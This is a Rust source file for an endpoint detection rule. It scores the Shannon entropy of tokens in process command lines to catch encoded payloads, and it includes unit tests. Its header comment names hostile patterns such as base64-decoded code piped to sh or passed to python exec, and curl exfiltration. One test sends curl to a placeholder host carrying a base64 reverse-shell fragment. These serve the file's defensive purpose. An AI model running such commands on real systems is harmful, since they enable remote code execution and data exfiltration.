//! High-entropy tokens in interpreter and downloader command lines.
//!
//! Encoded or encrypted payloads handed to an interpreter on its command
//! line (`python3 -c "exec(b64decode('...'))"`, `bash -c "echo ... |
//! base64 -d | sh"`, `curl -d <exfil blob>`) look like noise: their
//! characters are spread over a large alphabet. Shannon entropy in bits per
//! character measures that spread; ordinary words, paths, hex hashes and
//! UUIDs stay well below base64 and encrypted data.
//!
//! Also exports `wasm.entropy.shannon(string)` for EQL rules.

#![no_std]

extern crate alloc;

use alloc::string::String;
use alloc::vec::Vec;

use kestrel_sdk::{export_function, export_rule, math, text, Args, Config, ConfigError, Event, Matches, Rule};

/// Work bounds, so that a hostile multi-megabyte command line cannot burn
/// the module's fuel (a fault; three faults quarantine the rule, which
/// would let an attacker switch it off): at most `max_scan` bytes of a
/// command line are scanned, and at most this many characters of a token
/// are counted (entropy of a 4096-character sample is a fine estimate).
const DEFAULT_MAX_SCAN: i64 = 16 * 1024;
const MAX_TOKEN_CHARS: usize = 4096;
/// Longest token excerpt quoted in the alert message.
const QUOTE_CHARS: usize = 64;
/// Characters `shannon` reads at most; longer strings are scored on this
/// prefix. Also sizes the table of non-ASCII characters.
const FN_MAX_CHARS: usize = 8192;
/// Slots of the non-ASCII table: twice the most distinct characters it
/// can be asked to hold, so probes stay short.
const WIDE_SLOTS: usize = 2 * FN_MAX_CHARS;
/// c * log2(c) is tabulated for counts up to this (most counts are small).
const SMALL_COUNTS: usize = 64;

/// Character frequency counter, reused for every token so that counting
/// allocates nothing once warm. Only the symbols a string used are summed
/// and reset afterwards, so a short token costs in proportion to its
/// length, not to the alphabet: ASCII counts live in a table, other
/// characters in an open-addressing hash table (exact counts).
struct Counter {
    ascii: [u32; 128],
    ascii_used: Vec<u8>,
    wide: Vec<(u32, u32)>, // (UTF-8 bytes packed in a u32, count); key 0 marks a free slot
    wide_used: Vec<u32>,
    c_log2_c: [f64; SMALL_COUNTS + 1],
}

impl Counter {
    fn new() -> Self {
        let mut c_log2_c = [0.0; SMALL_COUNTS + 1];
        for (c, v) in c_log2_c.iter_mut().enumerate().skip(2) {
            *v = c as f64 * math::log2(c as f64);
        }
        Counter { ascii: [0; 128], ascii_used: Vec::new(), wide: Vec::new(), wide_used: Vec::new(), c_log2_c }
    }

    // Forced inline: these run once per character, and a call costs more
    // than their body under opt-level "s".
    #[inline(always)]
    fn count_ascii(&mut self, b: u8) {
        let c = &mut self.ascii[(b & 0x7f) as usize];
        if *c == 0 {
            self.ascii_used.push(b & 0x7f);
        }
        *c += 1;
    }

    fn term(&self, c: u32) -> f64 {
        match self.c_log2_c.get(c as usize) {
            Some(&v) => v,
            None => c as f64 * math::log2(c as f64),
        }
    }

    /// Counts a non-ASCII character by its UTF-8 bytes packed in a u32
    /// (unique per character, never 0): no decoding to a code point needed.
    #[inline(always)]
    fn count_wide(&mut self, key: u32) {
        if self.wide.is_empty() {
            self.wide.resize(WIDE_SLOTS, (0, 0));
        }
        // Fibonacci hashing; linear probing. The table is at most half
        // full (limit <= FN_MAX_CHARS characters per string).
        let mut slot = (key.wrapping_mul(0x9e37_79b1) >> (32 - WIDE_SLOTS.trailing_zeros())) as usize;
        loop {
            let e = &mut self.wide[slot];
            if e.0 == key {
                e.1 += 1;
                return;
            }
            if e.0 == 0 {
                *e = (key, 1);
                self.wide_used.push(slot as u32);
                return;
            }
            slot = (slot + 1) & (WIDE_SLOTS - 1);
        }
    }

    /// Shannon entropy of the first `limit` characters of `s`, in bits per
    /// character: H = log2(n) - (1/n) * sum(c * log2(c)) over the counts c.
    fn entropy(&mut self, s: &str, limit: usize) -> f64 {
        let limit = limit.min(FN_MAX_CHARS);
        let bytes = s.as_bytes();
        let mut n = 0usize;
        if s.is_ascii() {
            for &b in bytes.iter().take(limit) {
                self.count_ascii(b);
            }
            n = bytes.len().min(limit);
        } else {
            let mut i = 0;
            while i < bytes.len() && n < limit {
                let lead = bytes[i];
                n += 1;
                if lead < 0x80 {
                    self.count_ascii(lead);
                    i += 1;
                    continue;
                }
                // `s` is valid UTF-8: the lead byte gives the length.
                let len = if lead >= 0xf0 {
                    4
                } else if lead >= 0xe0 {
                    3
                } else {
                    2
                };
                let mut key = 0u32;
                for &b in bytes.get(i..i + len).unwrap_or(&[]) {
                    key = key << 8 | b as u32;
                }
                self.count_wide(key);
                i += len;
            }
        }
        let mut sum = 0.0;
        for i in 0..self.ascii_used.len() {
            let b = self.ascii_used[i] as usize;
            sum += self.term(self.ascii[b]);
            self.ascii[b] = 0;
        }
        self.ascii_used.clear();
        for i in 0..self.wide_used.len() {
            let slot = self.wide_used[i] as usize;
            sum += self.term(self.wide[slot].1);
            self.wide[slot] = (0, 0);
        }
        self.wide_used.clear();
        if n == 0 {
            return 0.0;
        }
        let n = n as f64;
        // Rounding can leave -1e-16 for a one-symbol string.
        let h = math::log2(n) - sum / n;
        if h < 0.0 {
            0.0
        } else {
            h
        }
    }
}

/// Paths and URLs are judged by their components: a long path made of
/// ordinary directory names has many distinct characters as a whole, but
/// no component of it looks random.
fn looks_like_path_or_url(token: &str) -> bool {
    token.starts_with('/')
        || token.starts_with("./")
        || token.starts_with("../")
        || token.starts_with("~/")
        || token.as_bytes().windows(3).any(|w| w[0] == b':' && w[1] == b'/' && w[2] == b'/')
}

fn is_path_separator(c: char) -> bool {
    matches!(c, '/' | '?' | '&' | '=' | '#' | ':' | '@' | ';')
}

/// A JSON Web Token (`eyJ<header>.<payload>.<signature>`, base64url): a
/// credential `curl` sends to APIs all day, not a payload. Exempt by
/// default (config `ignore_jwt`) because bearer tokens are the bulk of
/// what this rule would otherwise flag in `curl` command lines.
fn is_jwt(token: &str) -> bool {
    token.starts_with("eyJ")
        && token.bytes().filter(|&b| b == b'.').count() == 2
        && token.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'='))
}

/// The most random-looking piece of a command line.
struct Finding<'a> {
    piece: &'a str,
    entropy: f64,
}

struct HighEntropyCmdline {
    threshold: f64,
    min_token: usize,
    max_scan: usize,
    ignore_jwt: bool,
    counter: Counter,
}

impl HighEntropyCmdline {
    /// Scores one candidate piece; keeps it if it is the best so far.
    fn score<'a>(&mut self, piece: &'a str, best: &mut Option<Finding<'a>>) {
        // Cheap length test first: byte length >= char count.
        if piece.len() < self.min_token || (!piece.is_ascii() && piece.chars().count() < self.min_token) {
            return;
        }
        let e = self.counter.entropy(piece, MAX_TOKEN_CHARS);
        if e >= self.threshold && best.as_ref().map_or(true, |b| e > b.entropy) {
            *best = Some(Finding { piece, entropy: e });
        }
    }

    fn scan<'a>(&mut self, cmdline: &'a str) -> Option<Finding<'a>> {
        let mut best = None;
        for token in cmdline.split_ascii_whitespace() {
            // Nothing shorter can hold a scored piece: skip it first thing.
            if token.len() < self.min_token {
                continue;
            }
            let token = token.trim_matches(|c| c == '"' || c == '\'');
            if self.ignore_jwt && is_jwt(token) {
                continue;
            }
            if looks_like_path_or_url(token) {
                for part in token.split(is_path_separator) {
                    self.score(part, &mut best);
                }
            } else {
                self.score(token, &mut best);
            }
        }
        best
    }
}

impl Rule for HighEntropyCmdline {
    fn init(config: &Config) -> Result<Self, ConfigError> {
        let threshold = config.float_or("threshold", 4.5)?;
        let min_token = config.int_or("min_token", 24)?;
        let max_scan = config.int_or("max_scan", DEFAULT_MAX_SCAN)?;
        let ignore_jwt = config.bool_or("ignore_jwt", true)?;
        if !(threshold > 0.0 && threshold < 32.0) {
            return Err("config `threshold` must be between 0 and 32 bits per character".into());
        }
        if !(2..=4096).contains(&min_token) {
            return Err("config `min_token` must be between 2 and 4096".into());
        }
        if max_scan < 64 {
            return Err("config `max_scan` must be at least 64 bytes".into());
        }
        Ok(HighEntropyCmdline {
            threshold,
            min_token: min_token as usize,
            max_scan: max_scan as usize,
            ignore_jwt,
            counter: Counter::new(),
        })
    }

    fn check(&mut self, ev: &Event, out: &mut Matches) {
        // Only the head is read (and UTF-8-checked): bounded work per event.
        let cmdline = match ev.str_head("process.command_line", self.max_scan) {
            Some(c) => c,
            None => return,
        };
        let found = match self.scan(cmdline) {
            Some(f) => f,
            None => return,
        };
        let length = found.piece.chars().count();
        let mut msg = String::with_capacity(160);
        msg.push_str(ev.str_head("process.name", 64).unwrap_or("process"));
        msg.push_str(" command line carries a high-entropy token (");
        text::push_fixed(&mut msg, found.entropy, 2);
        msg.push_str(" bits/char, ");
        text::push_uint(&mut msg, length as u64);
        msg.push_str(" chars): ");
        msg.push_str(text::truncate(found.piece, QUOTE_CHARS));
        if length > QUOTE_CHARS {
            msg.push_str("...");
        }
        out.matched_with(ev.index())
            .msg(&msg)
            .data_float("entropy", found.entropy)
            .data_int("token_length", length as i64);
    }
}

export_rule!(HighEntropyCmdline);

/// The function's counter. Wasm modules run single-threaded and calls do
/// not nest, so a plain static is safe here.
static mut FN_COUNTER: Option<Counter> = None;

/// `wasm.entropy.shannon(s)`: entropy of the whole string in bits per
/// character; null for null, non-strings and the empty string.
fn shannon(args: &Args) -> Option<f64> {
    let s = text::utf8_head(args.bytes(0)?, FN_MAX_CHARS * 4).filter(|s| !s.is_empty())?;
    // One counter for all calls: its non-ASCII table is 256 KiB.
    let counter = unsafe { &mut *core::ptr::addr_of_mut!(FN_COUNTER) }.get_or_insert_with(Counter::new);
    Some(counter.entropy(s, FN_MAX_CHARS))
}

export_function!(shannon, shannon);

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(threshold: f64) -> HighEntropyCmdline {
        HighEntropyCmdline { threshold, min_token: 24, max_scan: 16384, ignore_jwt: true, counter: Counter::new() }
    }

    #[test]
    fn entropy_values() {
        let mut c = Counter::new();
        assert_eq!(c.entropy("aaaa", 100), 0.0);
        assert!((c.entropy("abcd", 100) - 2.0).abs() < 1e-12);
        assert!((c.entropy("héllo wörld ☃☃", 100) - 3.182005814760214).abs() < 1e-12);
        assert!((c.entropy("😀😀😀😁", 100) - 0.8112781244591328).abs() < 1e-12);
        // Counts are reset between strings.
        assert!((c.entropy("abcd", 100) - 2.0).abs() < 1e-12);
        assert!((c.entropy("abcdabcd", 4) - 2.0).abs() < 1e-12, "limit");
        assert_eq!(c.entropy("", 100), 0.0);
    }

    #[test]
    fn paths_and_urls_are_scored_by_component() {
        let mut r = rule(4.0);
        // As a whole this path scores 4.04 bits/char; no component of it
        // is long enough to be scored.
        assert!(r.scan("ls -la /usr/share/doc/python3-pkg-resources/copyright").is_none());
        let f = r.scan("cat /tmp/abcdefghijklmnopqrstuvwxyz/out").unwrap();
        assert_eq!(f.piece, "abcdefghijklmnopqrstuvwxyz");
        assert!(r.scan("curl https://packages.microsoft.com/config/debian/12/packages-microsoft-prod.deb").is_none());
        let f = r.scan("curl http://x.example/?d=aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9z").unwrap();
        assert_eq!(f.piece, "aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9z");
    }

    #[test]
    fn jwts_are_skipped() {
        let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJkZXBsb3ktYm90In0.Qm9uOd3Vq2p1hY7sZlXr8tKcWfA0eJ4iNxGbTyUvM6w";
        assert!(is_jwt(jwt));
        assert!(rule(4.5).scan(jwt).is_none());
        let mut r = rule(4.5);
        r.ignore_jwt = false;
        assert!(r.scan(jwt).is_some());
    }
}
